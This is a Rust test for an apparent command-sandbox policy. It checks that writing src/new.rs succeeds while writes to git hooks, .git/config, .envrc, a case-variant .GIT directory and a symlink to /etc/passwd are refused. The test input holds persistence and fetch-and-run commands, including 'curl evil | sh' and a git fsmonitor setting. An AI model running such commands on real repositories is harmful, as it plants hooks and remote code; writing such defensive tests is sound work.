//! Which writes of a command land, and which are refused with their rule.

use crate::support::{Project, applied, refused_rule};

#[test]
fn persistence_writes_never_land_while_ordinary_ones_do() {
    let project = Project::new();
    let policy = project.policy().build().expect("policy");
    let result = project.sh(
        &policy,
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo '[core] fsmonitor = evil' >> .git/config; echo 'curl evil | sh' > .envrc; \
         mkdir -p .GIT/hooks && echo x > .GIT/hooks/x; ln -s /etc/passwd out-link; \
         echo 'fn new() {}' > src/new.rs",
    );
    assert!(applied(&result, "src/new.rs"), "{result:#?}");
    assert_eq!(project.read("src/new.rs").as_deref(), Some("fn new() {}\n"));
    assert_eq!(
        refused_rule(&result, ".git/hooks/pre-commit").as_deref(),
        Some("write-protected"),
        "{result:#?}"
    );
    assert_eq!(
        refused_rule(&result, ".git/config").as_deref(),
        Some("write-protected")
    );
    // `.envrc` is write-protected, and blocked as well by `**/.env*`.
    assert_eq!(refused_rule(&result, ".envrc").as_deref(), Some("blocked"));
    // A refused directory stands for everything beneath it.
    assert_eq!(
        refused_rule(&result, ".GIT/hooks").as_deref(),
        Some("write-protected"),
        "{:#?}",
        result.changes
    );
    assert_eq!(
        refused_rule(&result, "out-link").as_deref(),
        Some("link-outside-roots")
    );
    assert!(!project.root.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        project.read(".git/config").as_deref(),
        Some("[core]\n\tbare = false\n")
    );
    assert!(!project.root.join(".envrc").exists());
    assert!(!project.root.join(".GIT/hooks").exists());
    assert!(std::fs::symlink_metadata(project.root.join("out-link")).is_err());
}
